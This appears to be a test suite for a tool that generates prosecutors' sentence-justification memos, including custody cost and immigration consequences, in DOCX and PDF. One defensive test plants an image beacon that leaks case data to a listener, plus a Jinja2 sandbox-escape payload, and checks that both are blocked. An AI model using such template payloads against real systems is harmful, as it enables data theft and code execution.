"""The sentence-justification memo (issue 4, DESIGN §5.4): real DOCX and PDF files with every section,
configurable custody cost, the defense's proposal, and clear errors for bad requests and broken templates."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import docx
import pytest
from typer.testing import CliRunner

from iiu.cli.main import app
from iiu.engine.errors import RequestError
from iiu.reports.memo import (
    DEFAULT_COST_PER_DAY,
    TemplateError,
    default_docx_template,
    document_text,
    memo_context,
    pdf_document,
    render_docx,
)

SECTIONS = (
    "1. Case and charge",
    "2. Recommended sentence and custody cost",
    "3. Immigration cost",
    "4. Alternatives considered",
    "5. Defense proposal",
    "6. Supervisor approval",
    "Sources",
)

THEFT: dict[str, Any] = {
    "jurisdiction": "NY", "offense": "PL 155.30", "subsection": "1", "disposition": "guilty_plea",
    "disposition_date": "2024-06-01", "offense_date": "2024-03-01", "sentence": {"custody_days": 365},
    "facts": {"loss_usd": 2500}, "case_id": "IND-2024-0117",
    "defense_proposal": {"offense": "PL 155.25", "sentence": {"custody_days": 180}},
    "memo": {"prepared_by": "ADA J. Rivera"},
}

runner = CliRunner()


def write(tmp_path: Path, req: Any, name: str = "req.json") -> Path:
    p = tmp_path / name
    p.write_text(json.dumps(req), encoding="utf-8")
    return p


def memo(tmp_path: Path, req: Any, out: str, *args: str) -> Any:
    return runner.invoke(app, ["memo", str(write(tmp_path, req)), "--out", str(tmp_path / out), *args])


def docx_text(path: Path) -> str:
    d = docx.Document(str(path))
    parts = [p.text for p in d.paragraphs]
    for t in d.tables:
        for row in t.rows:
            parts.extend(c.text for c in row.cells)
    for s in d.sections:
        parts.extend(p.text for p in s.footer.paragraphs)
    return "\n".join(parts)


def error(result: Any) -> dict[str, Any]:
    assert result.exit_code == 2, result.output
    payload = json.loads(result.output.strip().splitlines()[-1])
    assert set(payload) >= {"error", "field"}
    return payload


# --- DOCX ----------------------------------------------------------------------------------------


def test_docx_memo_opens_and_has_every_section(tmp_path: Path) -> None:
    r = memo(tmp_path, THEFT, "memo.docx", "--office", "Kings County District Attorney")
    assert r.exit_code == 0, r.output
    text = docx_text(tmp_path / "memo.docx")
    for s in SECTIONS:
        assert s in text, s
    assert "Kings County District Attorney" in text
    assert "IND-2024-0117" in text and "PL 155.30(1)" in text and "Grand larceny in the fourth degree" in text
    assert "$44,092.00" in text  # 365 days x $120.80
    assert "Bureau of Prisons" in text  # the default cost figure names its source
    assert "8 U.S.C. 1101(a)(43)(G)" in text  # the aggravated-felony finding carries its source
    assert "Lawful permanent resident" in text and "DACA recipient" in text  # every status profile
    assert "DEPARTS" in text and "PL 155.25" in text  # the defense's proposal and the departure
    assert "Supervisor name" in text and "Signature" in text and "Approved" in text
    assert "Not legal advice" in text
    assert "{{" not in text and "}}" not in text


def test_docx_alternatives_table_lists_364_days(tmp_path: Path) -> None:
    assert memo(tmp_path, THEFT, "memo.docx").exit_code == 0
    d = docx.Document(str(tmp_path / "memo.docx"))
    alt_tables = [t for t in d.tables if t.rows[0].cells[0].text == "#"]
    assert len(alt_tables) == 1
    rows = [[c.text for c in row.cells] for row in alt_tables[0].rows[1:]]
    assert any("364 days" in r[1] and "aggravated felony" in r[2] for r in rows), rows


# --- PDF -----------------------------------------------------------------------------------------


def test_pdf_memo_is_a_pdf_with_every_section(tmp_path: Path) -> None:
    r = memo(tmp_path, THEFT, "memo.pdf")
    assert r.exit_code == 0, r.output
    data = (tmp_path / "memo.pdf").read_bytes()
    assert data.startswith(b"%PDF-")
    assert b"%%EOF" in data[-64:]
    ctx = memo_context({k: v for k, v in THEFT.items()})
    doc = pdf_document(ctx)
    assert 1 <= len(doc.pages) <= 2, "one or two pages"
    text = document_text(doc)
    for s in SECTIONS:
        assert s in text, s
    for needle in ("Not legal advice", "$44,092.00", "8 U.S.C. 1101(a)(43)(G)", "DEPARTS", "Supervisor name",
                   "Status unknown", "364 days"):
        assert needle in text, needle


def test_cost_per_day_is_configurable(tmp_path: Path) -> None:
    r = memo(tmp_path, THEFT, "memo.docx", "--cost-per-day", "200")
    assert r.exit_code == 0, r.output
    text = docx_text(tmp_path / "memo.docx")
    assert "$73,000.00" in text and "$200.00 a day" in text
    assert memo_context(THEFT)["cost_per_day"] == f"${DEFAULT_COST_PER_DAY:,.2f}"


def test_chosen_alternative_is_the_recommendation(tmp_path: Path) -> None:
    ctx0 = memo_context(THEFT)
    n = next(int(a["n"]) for a in ctx0["alternatives"] if a["summary"].startswith("A term of 364 days"))
    req = {**THEFT, "memo": {"chosen_alternative": n, "reason": "Avoids the aggravated felony at no cost to safety."}}
    ctx = memo_context(req)
    assert ctx["recommended_sentence"].startswith("364 days in custody")
    assert ctx["report"]["findings"]["aggravated_felony"]["result"] == "no"
    assert "adopts alternative" in ctx["alternatives_decision"] and "Avoids the aggravated felony" in ctx["alternatives_decision"]
    assert ctx["first_considered"]
    assert [a["decision"] for a in ctx["alternatives"]].count("Chosen") == 1
    r = memo(tmp_path, req, "memo.pdf")
    assert r.exit_code == 0, r.output


def test_no_defense_proposal_and_no_harm(tmp_path: Path) -> None:
    # Criminal trespass: no ground, and not an offense whose arrest alone triggers INA 236(c)(1)(E).
    req = {k: v for k, v in THEFT.items() if k not in ("defense_proposal", "facts")}
    req.update(offense="PL 140.10", subsection=None, disposition="dismissed", sentence={})
    ctx = memo_context(req)
    assert "No defense proposal is recorded" in ctx["defense_summary"]
    assert "not a conviction" in ctx["immigration_summary"]
    assert ctx["alternatives"] == [] and "no safer alternative was needed" in ctx["alternatives_decision"]
    assert memo(tmp_path, req, "m.docx").exit_code == 0


def test_defense_proposal_that_matches(tmp_path: Path) -> None:
    req = {**THEFT, "defense_proposal": {"offense": "PL 155.30", "subsection": "1", "sentence": {"custody_days": 365}}}
    ctx = memo_context(req)
    assert ctx["defense_departs"].startswith("The recommendation matches")


# --- errors --------------------------------------------------------------------------------------


def test_bad_request_exits_2_with_field(tmp_path: Path) -> None:
    e = error(memo(tmp_path, {**THEFT, "offense": "PL 999.99"}, "m.docx"))
    assert e["field"] == "offense"
    e = error(memo(tmp_path, {**THEFT, "sentence": {"custody_days": -3}}, "m.pdf"))
    assert e["field"] == "sentence.custody_days"
    e = error(memo(tmp_path, {**THEFT, "memo": {"chosen_alternative": 99}}, "m.pdf"))
    assert e["field"] == "memo.chosen_alternative"
    e = error(memo(tmp_path, THEFT, "m.txt"))
    assert e["field"] == "out"
    bad = tmp_path / "broken.json"
    bad.write_text("{not json", encoding="utf-8")
    e = error(runner.invoke(app, ["memo", str(bad), "--out", str(tmp_path / "m.docx")]))
    assert e["field"] == "json"
    assert not (tmp_path / "m.docx").exists()


def _template_error(tmp_path: Path, template: Path, out: str) -> dict[str, Any]:
    e = error(memo(tmp_path, THEFT, out, "--template", str(template)))
    assert e["field"] == "template"
    assert str(template) in e["error"]
    assert not (tmp_path / out).exists()
    return e


def test_missing_template(tmp_path: Path) -> None:
    assert "not found" in _template_error(tmp_path, tmp_path / "nope.docx", "m.docx")["error"]
    assert "not found" in _template_error(tmp_path, tmp_path / "nope.html", "m.pdf")["error"]


def test_malformed_jinja_template(tmp_path: Path) -> None:
    t = tmp_path / "bad.html"
    t.write_text("<p>{{ case }}</p>\n<p>{% for x in %}</p>", encoding="utf-8")
    e = _template_error(tmp_path, t, "m.pdf")
    assert "malformed Jinja2 at line 2" in e["error"]


def test_jinja_template_with_unknown_field(tmp_path: Path) -> None:
    t = tmp_path / "unknown.html"
    t.write_text("<p>{{ case }} {{ defendant_status }}</p>", encoding="utf-8")
    e = _template_error(tmp_path, t, "m.pdf")
    assert "unknown merge field" in e["error"] and "defendant_status" in e["error"]


def test_docx_template_that_is_not_a_docx(tmp_path: Path) -> None:
    t = tmp_path / "fake.docx"
    t.write_text("this is not a word document", encoding="utf-8")
    assert "not a DOCX" in _template_error(tmp_path, t, "m.docx")["error"]


def test_docx_template_with_unknown_field(tmp_path: Path) -> None:
    d = docx.Document()
    d.add_paragraph("Case {{ case }} for {{ immigration_status }}")
    t = tmp_path / "unknown.docx"
    d.save(str(t))
    e = _template_error(tmp_path, t, "m.docx")
    assert "unknown merge field" in e["error"] and "immigration_status" in e["error"]


def test_docx_template_with_a_malformed_field(tmp_path: Path) -> None:
    d = docx.Document()
    d.add_paragraph("Case {{ case")
    t = tmp_path / "malformed.docx"
    d.save(str(t))
    assert "malformed merge field" in _template_error(tmp_path, t, "m.docx")["error"]


def test_template_kind_must_match_output(tmp_path: Path) -> None:
    t = tmp_path / "office.docx"
    t.write_bytes(default_docx_template())
    assert "needs an HTML" in _template_error(tmp_path, t, "m.pdf")["error"]


# --- editable templates --------------------------------------------------------------------------


def test_office_docx_template_with_fields_split_across_runs(tmp_path: Path) -> None:
    """Word splits text into runs when it is edited; a field spread over runs is still filled, and the
    formatting of the run it starts in is kept."""
    d = docx.Document()
    p = d.add_paragraph()
    p.add_run("Memo for case {{ ca")
    bold = p.add_run("se }} at ")
    bold.bold = True
    p.add_run("{{ custody_cost }}.")
    d.add_paragraph("{{ alternatives_table }}")
    cell = d.add_table(rows=1, cols=1).rows[0].cells[0]
    cell.text = "Charge: {{ charge }}"
    d.sections[0].header.paragraphs[0].text = "{{ office }}"
    t = tmp_path / "office.docx"
    d.save(str(t))
    r = memo(tmp_path, THEFT, "m.docx", "--template", str(t), "--office", "Test Office")
    assert r.exit_code == 0, r.output
    out = docx.Document(str(tmp_path / "m.docx"))
    assert out.paragraphs[0].text == "Memo for case IND-2024-0117 at $44,092.00."
    assert out.tables[-1].rows[0].cells[0].text == "Charge: NY PL 155.30(1) — Grand larceny in the fourth degree (E felony)"
    assert any(t.rows[0].cells[0].text == "#" for t in out.tables)
    assert out.sections[0].header.paragraphs[0].text == "Test Office"


def test_memo_template_command_writes_editable_defaults(tmp_path: Path) -> None:
    for name in ("t.docx", "t.html"):
        r = runner.invoke(app, ["memo-template", "--out", str(tmp_path / name)])
        assert r.exit_code == 0, r.output
    docx.Document(str(tmp_path / "t.docx"))
    assert memo(tmp_path, THEFT, "a.docx", "--template", str(tmp_path / "t.docx")).exit_code == 0
    assert memo(tmp_path, THEFT, "a.pdf", "--template", str(tmp_path / "t.html")).exit_code == 0


def test_render_docx_raises_template_error_in_process(tmp_path: Path) -> None:
    t = tmp_path / "x.docx"
    t.write_bytes(b"PK\x03\x04 broken zip")
    with pytest.raises(TemplateError) as ei:
        render_docx(memo_context(THEFT), tmp_path / "o.docx", t)
    assert ei.value.template == str(t)


@pytest.mark.parametrize(
    "req",
    [
        {"jurisdiction": "CA", "offense": "HS 11350", "disposition": "guilty_plea", "disposition_date": "2024-06-01",
         "sentence": {"custody_days": 0, "probation_days": 365}, "facts": {"substance": "heroin"}},
        {"jurisdiction": "CA", "offense": "PC 273.5", "disposition": "guilty_plea", "disposition_date": "2024-06-01",
         "facts": {"victim_relationship": "spouse"}, "sentence": {"custody_days": 30, "probation_days": 1095}},
        {"jurisdiction": "NY", "offense": "PL 120.00", "subsection": "1", "disposition": "guilty_plea",
         "disposition_date": "2024-06-01", "facts": {"victim_relationship": "spouse"},
         "sentence": {"custody_days": 60, "suspended_custody_days": 30}},
    ],
)
def test_memos_for_other_cases_fit_two_pages(req: dict[str, Any], tmp_path: Path) -> None:
    ctx = memo_context(req)
    assert len(pdf_document(ctx).pages) <= 2
    render_docx(ctx, tmp_path / "m.docx")
    text = docx_text(tmp_path / "m.docx")
    for s in SECTIONS:
        assert s in text


def test_a_case_with_one_charge_is_accepted_and_more_are_refused(tmp_path: Path) -> None:
    charge = {k: v for k, v in THEFT.items() if k not in ("jurisdiction", "defense_proposal", "memo", "case_id")}
    case = {"jurisdiction": "NY", "stage": "sentencing", "charges": [charge],
            "defense_proposal": THEFT["defense_proposal"], "case_id": "IND-2024-0117"}
    r = memo(tmp_path, case, "case.docx")
    assert r.exit_code == 0, r.output
    assert "DEPARTS" in docx_text(tmp_path / "case.docx")
    e = error(memo(tmp_path, {**case, "charges": [charge, charge]}, "two.docx"))
    assert e["field"] == "charges"


def test_non_conviction_dispositions_share_one_row() -> None:
    """Pre-plea diversion, ACD and dismissal have the same effect here; the memo lists them once, numbered as
    the engine numbers them, so the memo stays short."""
    ctx = memo_context(THEFT)
    engine_alts = ctx["report"]["alternatives"] if not ctx["chosen_alternative"] else []
    disp = [i for i, a in enumerate(engine_alts, 1) if "disposition" in a["change"]]
    rows = [r for r in ctx["alternatives"] if r["summary"].startswith("Disposition: any of")]
    assert len(disp) >= 2 and len(rows) == 1
    assert rows[0]["n"] == ", ".join(str(i) for i in disp)
    assert rows[0]["removes"].startswith("conviction") or "no conviction" in rows[0]["removes"]


def test_a_memo_template_cannot_send_case_data_out_or_run_code(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """An office-edited template is filled with case data: a resource it names on another host must not be
    fetched (the URL would carry the data), and it must not reach Python internals (Jinja2 sandbox)."""
    import http.server
    import logging
    import threading

    from iiu.reports.memo import DEFAULT_HTML_TEMPLATE, render_html

    hits: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the http.server API
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        beacon = f'<img src="http://127.0.0.1:{server.server_port}/intake?charge={{{{ charge | urlencode }}}}">'
        template = tmp_path / "memo.html.j2"
        template.write_text(DEFAULT_HTML_TEMPLATE.read_text(encoding="utf-8").replace("</body>", beacon + "</body>"),
                            encoding="utf-8")
        ctx = memo_context(THEFT)
        assert "intake?charge=" in render_html(ctx, template)  # the template did name the resource
        with caplog.at_level(logging.WARNING, logger="iiu.firewall"):
            doc = pdf_document(ctx, template)
        assert len(doc.pages) >= 1 and hits == []
        assert any("refused to fetch" in r.getMessage() and "PL" not in r.getMessage() for r in caplog.records)
    finally:
        server.shutdown()
    evil = tmp_path / "evil.html.j2"
    evil.write_text("{{ cycler.__init__.__globals__.os.getcwd() }}", encoding="utf-8")
    with pytest.raises(TemplateError):
        render_html(memo_context(THEFT), evil)


@pytest.mark.parametrize("sentence", [None, "unknown", {"custody_days": "unknown"}])
def test_a_memo_needs_the_sentence_it_recommends(sentence: Any) -> None:
    """The sentence-justification memo prices a recommended sentence: without one it is refused, naming the field
    (an absent sentence was priced as no custody; "unknown" failed with a Python error)."""
    req = {k: v for k, v in THEFT.items() if k not in ("sentence", "defense_proposal")}
    if sentence is not None:
        req["sentence"] = sentence
    with pytest.raises(RequestError) as ei:
        memo_context(req)
    assert ei.value.field == "sentence"
